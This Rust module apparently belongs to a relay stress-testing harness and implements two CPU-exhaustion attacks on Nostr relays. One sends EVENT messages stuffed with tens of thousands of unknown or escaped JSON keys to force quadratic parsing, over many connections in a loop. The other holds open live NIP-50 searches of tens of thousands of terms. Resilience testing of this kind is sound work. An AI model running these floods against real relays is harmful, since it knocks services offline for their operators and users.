//! Attacks on the relay's CPU per byte: messages built to make parsing
//! quadratic, and hostile NIP-50 searches.

use super::*;

/// An EVENT message whose event object carries `keys` unknown keys besides
/// a valid signed event's fields; `escaped` writes each key with a `\u`
/// escape.
pub(super) fn unknown_keys_event(
    event: &nostrwire_event::Event,
    keys: usize,
    escaped: bool,
) -> Vec<u8> {
    let mut json = Vec::new();
    event.write_json(&mut json);
    let mut out = Vec::with_capacity(keys * 17 + json.len() + 16);
    out.extend_from_slice(b"[\"EVENT\",");
    out.extend_from_slice(&json[..json.len() - 1]); // without the closing brace
    for k in 0..keys {
        if escaped {
            out.extend_from_slice(format!(",\"\\u0078{k:05}\":0").as_bytes());
        } else {
            out.extend_from_slice(format!(",\"k{k:06}\":0").as_bytes());
        }
    }
    out.extend_from_slice(b"}]");
    out
}

/// EVENT messages with tens of thousands of unknown keys, several at once,
/// again and again until the attack ends; each answer is timed.
pub(super) async fn quadratic_json(ctx: Ctx) -> Found {
    let mut f = Found::default();
    let p = ctx.p().clone();
    let mut rng = run_rng(ctx.seed);
    let keys = fresh_keys(&mut rng);
    // About 58,000 escaped keys (16 bytes each) or 80,000 plain ones
    // (12 bytes each) per million bytes of `message_bytes`.
    let escaped_n = (p.message_bytes / 17).max(1);
    let plain_n = (p.message_bytes * 2 / 25).max(1);
    let mut msgs = Vec::new();
    for i in 0..p.quadratic_messages.max(1) {
        let ev = UnsignedEvent::new(
            &keys,
            Timestamp::now(),
            Kind(1),
            vec![],
            format!("unknown keys {i} {}", rng.next_u64()),
        )
        .sign(&keys);
        let escaped = i % 2 == 0;
        msgs.push(Arc::new(unknown_keys_event(
            &ev,
            if escaped { escaped_n } else { plain_n },
            escaped,
        )));
    }
    f.notes.push(format!(
        "{} EVENT messages at once per round (half with {escaped_n} `\\u`-escaped unknown keys, {} bytes; half with {plain_n} plain unknown keys, {} bytes), each on its own connection, again until the end",
        msgs.len(),
        msgs[0].len(),
        msgs.get(1).map_or(0, |m| m.len())
    ));
    let timeout = ctx.target().timeout;
    let tally = Arc::new(Mutex::new(Tally::default()));
    let mut handles = Vec::new();
    for (i, msg) in msgs.into_iter().enumerate() {
        let ctx = ctx.clone();
        let tally = tally.clone();
        handles.push(tokio::spawn(async move {
            let mut stats = OpStats::new();
            let mut conn: Option<Conn> = None;
            let mut round = 0u64;
            while !ctx.over() {
                round += 1;
                if conn.is_none() {
                    conn = ctx.open(i as u64 * 1_000 + round).await.ok();
                }
                let Some(c) = conn.as_mut() else {
                    stats.fail(Failure::ConnectFailed);
                    tokio::time::sleep(Duration::from_millis(200)).await;
                    continue;
                };
                let t0 = Instant::now();
                if c.writer.send_text(&msg).await.is_err() {
                    stats.fail(Failure::ConnectionLost);
                    conn = None;
                    continue;
                }
                let deadline = tokio::time::Instant::from_std(t0 + timeout);
                let answer = loop {
                    match timeout_at(deadline, c.reader.next()).await {
                        Err(_) => break Err(Failure::Timeout),
                        Ok(Err(_)) | Ok(Ok(Admitted::Close(_))) => {
                            break Err(Failure::ConnectionLost)
                        }
                        Ok(Ok(Admitted::Text(t))) => match RelayMessage::parse(t) {
                            Ok(RelayMessage::Auth(_)) => continue,
                            Ok(RelayMessage::Ok {
                                accepted, message, ..
                            }) => {
                                break Ok(if accepted {
                                    ("ok_true".to_string(), message.into_owned())
                                } else {
                                    (
                                        format!("ok_false:{}", message_prefix(&message)),
                                        message.into_owned(),
                                    )
                                })
                            }
                            Ok(RelayMessage::Notice(m)) => {
                                break Ok(("notice".into(), m.into_owned()))
                            }
                            Ok(_) => break Ok(("other".into(), String::new())),
                            Err(_) => break Ok(("unparseable".into(), String::new())),
                        },
                        Ok(Ok(_)) => continue,
                    }
                };
                match answer {
                    Ok((key, m)) => {
                        stats.success(t0.elapsed());
                        tally
                            .lock()
                            .expect("tally lock")
                            .add(key, (!m.is_empty()).then_some(m.as_str()));
                    }
                    Err(fail) => {
                        tally.lock().expect("tally lock").add(fail.key(), None);
                        stats.fail(fail);
                        conn = None;
                    }
                }
            }
            if let Some(c) = conn {
                c.close().await;
            }
            stats
        }));
    }
    for h in handles {
        if let Ok(s) = h.await {
            f.op("attack:answer").merge(&s);
        }
    }
    let t = tally.lock().expect("tally lock");
    if t.counts.contains_key("ok_true") {
        f.notes
            .push("the relay accepted events with unknown keys (allowed by NIP-01)".into());
    }
    f.notes.push(format!("relay answered: {}", t.describe()));
    f
}

/// A REQ for live kind-1 events with a NIP-50 search of `terms` words.
pub(super) fn hostile_search_req(sub: &str, terms: usize, rng: &mut Rng) -> Vec<u8> {
    let mut search = String::with_capacity(terms * 7);
    for i in 0..terms {
        if i > 0 {
            search.push(' ');
        }
        let len = 3 + rng.below(6) as usize;
        search.push_str(&letters(rng, len));
    }
    let filter = Filter {
        kinds: Some(vec![Kind(1)]),
        search: Some(search),
        ..Filter::new()
    };
    let mut msg = Vec::with_capacity(terms * 7 + 64);
    write::req(&mut msg, sub, &[filter]);
    msg
}

/// Whether the relay answers a search for a word no event contains with
/// EOSE and nothing else; `Err(reason)` when it does not do NIP-50.
pub(super) async fn search_supported(conn: &mut Conn, timeout: Duration) -> Result<(), String> {
    let term = "qxzvjkwpfbqz";
    let filter = Filter {
        kinds: Some(vec![Kind(1)]),
        search: Some(term.into()),
        limit: Some(5),
        ..Filter::new()
    };
    let sub = conn.new_sub_id("s");
    let mut msg = Vec::new();
    write::req(&mut msg, &sub, &[filter]);
    conn.writer
        .send_text(&msg)
        .await
        .map_err(|e| format!("connection failed: {e}"))?;
    let deadline = tokio::time::Instant::now() + timeout;
    loop {
        let t = match conn.reader.next_text_before(deadline).await {
            Ok(Some(t)) => t,
            Ok(None) => return Err("no EOSE for a one-word search".into()),
            Err(e) => return Err(format!("connection failed: {e}")),
        };
        match RelayMessage::parse(t) {
            Ok(RelayMessage::Event {
                subscription_id,
                event,
            }) if subscription_id == sub
                && !event.content().value().to_lowercase().contains(term) =>
            {
                return Err("relay ignores `search` (a word no event has matched)".into());
            }
            Ok(RelayMessage::Eose(s)) if s == sub => break,
            Ok(RelayMessage::Closed {
                subscription_id,
                message,
            }) if subscription_id == sub => {
                return Err(format!("no NIP-50 search (CLOSED \"{message}\")"))
            }
            Ok(RelayMessage::Notice(m)) => {
                return Err(format!("no NIP-50 search (NOTICE \"{m}\")"))
            }
            _ => {}
        }
    }
    msg.clear();
    write::close(&mut msg, &sub);
    let _ = conn.writer.send_text(&msg).await;
    Ok(())
}

/// Live searches of tens of thousands of terms, left open.
pub(super) async fn hostile_search(mut ctx: Ctx) -> Found {
    let mut f = Found::default();
    let p = ctx.p().clone();
    let timeout = ctx.target().timeout;
    let mut first = match ctx.open(0).await {
        Ok(c) => c,
        Err(e) => {
            f.failed = Some(format!("attacking connection failed: {e}"));
            return f;
        }
    };
    if let Err(why) = search_supported(&mut first, timeout).await {
        f.unsupported = Some(why);
        first.close().await;
        return f;
    }
    let sent: SentSubs = Arc::default();
    let mut writers = Vec::new();
    let mut drains = Vec::new();
    const CONNS: usize = 4;
    let mut conns = vec![first];
    for i in 1..CONNS {
        if let Ok(c) = ctx.open(i as u64).await {
            conns.push(c);
        }
    }
    for c in conns {
        let Conn { reader, writer, .. } = c;
        drains.push(tokio::spawn(drain(reader, sent.clone(), ctx.stop.clone())));
        writers.push(writer);
    }
    let mut rng = Rng::new(ctx.seed);
    let mut bytes = 0;
    let mut n = 0;
    for i in 0..p.hostile_searches {
        if ctx.over() {
            break;
        }
        let sub = format!("hs{i}");
        let msg = hostile_search_req(&sub, p.search_terms, &mut rng);
        bytes += msg.len();
        sent.lock().expect("sent lock").insert(sub, Instant::now());
        let k = writers.len();
        if writers[i % k].send_text(&msg).await.is_err() {
            break;
        }
        n += 1;
    }
    f.notes.push(format!(
        "{n} live searches of {} terms ({} KiB each) over {} connections",
        p.search_terms,
        bytes / n.max(1) / 1024,
        writers.len()
    ));
    ctx.hold().await;
    for w in &mut writers {
        let _ = w.close().await;
    }
    answered(&mut f, "the searches", drains).await;
    f
}
